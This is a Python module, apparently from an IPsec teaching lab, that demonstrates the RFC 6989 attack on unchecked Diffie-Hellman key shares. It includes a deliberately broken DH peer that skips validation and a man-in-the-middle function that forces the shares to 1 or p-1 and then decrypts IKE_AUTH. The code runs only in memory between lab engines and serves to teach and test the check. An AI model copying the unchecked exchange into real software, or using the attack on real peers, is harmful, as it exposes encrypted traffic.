"""unchecked-dh: a peer that takes 1 (or p-1) as a Diffie-Hellman public value.

In a MODP group, 1 has order 1 and p-1 order 2: whatever a peer's secret exponent x,
1^x = 1 and (p-1)^x = ±1. A peer that accepts such a key share computes a g^ir the
attacker knows without any discrete log, and with it SKEYSEED and every SK_* key (RFC 7296
§2.14). RFC 6989 §2.1 therefore requires checking that 1 < y < p-1 (and §2.2 subgroup
membership where the group has small subgroups); ipseclab does it in
:meth:`ipseclab.crypto.dh.DhPrivate.exchange`, raising InvalidKeyShare, and the responder
answers INVALID_SYNTAX without creating state.

The weak configuration is a deliberately broken peer, built only here: :func:`unchecked`
swaps, for as long as it is active, the DH keys the IKE engine draws for ones whose
``exchange`` skips those checks. mallory replaces the KE data of both IKE_SA_INIT messages
by 1: both peers derive g^ir = 1, mallory derives the same SK_* keys and opens gw1's
IKE_AUTH (its identity, AUTH and proposals: enough for the offline PSK search of weak-psk).
AUTH still fails afterwards (it signs the unmodified first message, §2.15), but the
secrecy of IKE_AUTH is gone. With ipseclab's checks the responder refuses the share.

It runs the lab's two IKE engines joined in memory with the attacker between them: it
targets only the lab's own configurations and sends nothing on any network.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ipseclab.attacks.common import AttackResult, check_config
from ipseclab.attacks.ike_common import (
    SaInit,
    auth_exchange,
    engine_pair,
    open_sk,
    run_pair,
    sa_keys,
)
from ipseclab.crypto.dh import DhPrivate, ModpGroup
from ipseclab.ike import events, negotiation
from ipseclab.ike.constants import ExchangeType, NotifyType
from ipseclab.ike.message import parse_message
from ipseclab.ike.payloads import IDi, KeyExchange

NAME = "unchecked-dh"
WEAK = "weak"  # modp2048, both peers without the RFC 6989 checks
RECOMMENDED = "recommended"  # modp2048, ipseclab's checks


class UncheckedModpPrivate(DhPrivate):
    """A MODP key whose ``exchange`` is y^x mod p and nothing else: the broken peer."""

    __slots__ = ("_inner",)

    def __init__(self, inner: DhPrivate) -> None:
        super().__init__(inner.group)
        self._inner = inner

    def public_bytes(self) -> bytes:
        return self._inner.public_bytes()

    def exchange(self, peer: bytes) -> bytes:
        group: ModpGroup = self.group  # type: ignore[assignment]
        y = int.from_bytes(peer, "big")
        x = self._inner._x  # type: ignore[attr-defined]
        return pow(y, x, group.p).to_bytes(group.public_size, "big")


@contextlib.contextmanager
def unchecked() -> Iterator[None]:
    """While active, every MODP key the IKE engine draws skips RFC 6989 (lab only)."""
    original = negotiation.generate_dh

    def broken(group: Any, rng: Any) -> DhPrivate:
        key = original(group, rng)
        return UncheckedModpPrivate(key) if isinstance(group, ModpGroup) else key

    negotiation.generate_dh = broken  # type: ignore[assignment]
    try:
        yield
    finally:
        negotiation.generate_dh = original  # type: ignore[assignment]


def replace_key_share(value: int) -> Any:
    """A tamper function: the KE data of both IKE_SA_INIT messages becomes ``value``."""
    def tamper(data: bytes, sender: str) -> list:
        msg = parse_message(data)
        ke = msg.find(KeyExchange)
        if msg.exchange_type == ExchangeType.IKE_SA_INIT and ke is not None:
            ke.data = value.to_bytes(len(ke.data), "big")
            return [msg.to_bytes()]
        return [data]
    return tamper


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        share: int = 1) -> AttackResult:
    """mallory sets both key shares to ``share`` (1, or p-1 for a secret of ±1)."""
    check_config(config)
    engines = engine_pair(NAME, config)
    with contextlib.ExitStack() as stack:
        if config == WEAK:
            stack.enter_context(unchecked())
        wire = run_pair(engines, replace_key_share(share))
    messages = [m for _, m in wire.messages]
    failures = [f"{node}: {NotifyType(e.notify).name} ({e.reason})"
                for node, evs in wire.events.items() for e in evs
                if isinstance(e, events.NegotiationFailed)]
    auth_failed = [node for node, evs in wire.events.items() for e in evs
                   if isinstance(e, events.AuthenticationFailed)]
    counters = {"events": {"negotiation_failed": len(failures), "auth_failed": len(auth_failed),
                           "gw2_ike_sas": len(engines["gw2"].ike_sas)}}
    details: dict[str, Any] = {"failures": failures, "auth_failed": auth_failed}
    init = SaInit.from_messages(messages)
    if init is None:
        evidence = (f"mallory sent the key share {share} to both peers; gw2 refused it"
                    f" (RFC 6989 §2.1): {'; '.join(failures) or 'no answer'}; no IKE SA")
        return AttackResult(NAME, config, False, evidence, details=details, counters=counters)
    group: ModpGroup = init.proposal.dh[0]  # type: ignore[assignment]
    candidates = {1} if share == 1 else {1, group.p - 1}  # (p-1)^x = ±1
    request, _ = auth_exchange(messages, init)
    for secret in sorted(candidates):
        keys = sa_keys(init, secret.to_bytes(group.public_size, "big"))
        try:
            _, inner = open_sk(request, init, keys) if request else (None, [])
        except Exception:  # wrong candidate: the AEAD tag does not verify
            continue
        idi = next((p for p in inner if isinstance(p, IDi)), None)
        details.update({"g_ir": secret, "sk_ei": keys.SK_ei.hex(),
                        "identity": idi.data.decode() if idi else None,
                        "inner": [type(p).__name__ for p in inner]})
        # gw2 reaching its AUTH check means it opened the same SK payload: same keys
        details["gw2_opened_ike_auth"] = "gw2" in auth_failed
        evidence = (f"mallory set both key shares to {share}; the peers without RFC 6989 checks"
                    f" computed g^ir = {secret}, as did mallory: SK_ei {keys.SK_ei.hex()[:16]}..."
                    f" opens gw1's IKE_AUTH: {', '.join(details['inner'])} with identity"
                    f" {details['identity']!r}. (AUTH then fails: "
                    f"{', '.join(auth_failed) or 'no one'} report AUTHENTICATION_FAILED, since"
                    " AUTH signs the unmodified messages; the IKE_AUTH contents are out anyway.)")
        return AttackResult(NAME, config, True, evidence, details=details, counters=counters)
    return AttackResult(NAME, config, False, "no candidate secret opened IKE_AUTH",
                        details=details, counters=counters)
